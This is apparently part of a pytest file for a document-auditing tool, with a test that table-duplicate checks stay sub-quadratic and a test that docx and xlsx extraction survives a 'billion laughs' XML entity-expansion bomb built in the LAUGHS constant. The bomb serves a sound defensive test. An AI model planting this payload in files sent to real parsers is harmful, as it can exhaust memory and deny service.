    n = len([t for t in doc.tables if t.rows])
    assert n > tables.ALL_PAIRS_UP_TO
    calls = 0
    real = tables.align

    def counted(*args):
        nonlocal calls
        calls += 1
        return real(*args)

    monkeypatch.setattr(tables, "align", counted)  # every pair of tables compared is aligned
    audit([doc], select_rules(["DUP001"]), use_corpus=False)
    assert 0 < calls < 0.15 * n * (n - 1) / 2  # each table recurs 5 times: its copies, not every table


LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lollollollollollollollollollol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10))
          + b"]>")


@pytest.mark.parametrize("kind, part, root, text", [
    ("docx", "word/document.xml", b"<w:document", b"<w:t>"),
    ("xlsx", "xl/sharedStrings.xml", b"<sst", b"<t>"),
])
def test_entity_expansion_bombs_stay_small(tmp_path, kind, part, root, text):
    def laugh(body: bytes) -> bytes:
        return LAUGHS + body[body.index(root):].replace(text, text + b"&lol9;", 1)

    path = tmp_path / f"laughs.{kind}"
    path.write_bytes(rezip(docx_bytes() if kind == "docx" else xlsx_bytes(), edit={part: laugh}))
    proc, seconds, peak = _measured("extract", path)
    assert proc.returncode in (0, 2)
    assert seconds < 10 and peak < 500, (seconds, peak)
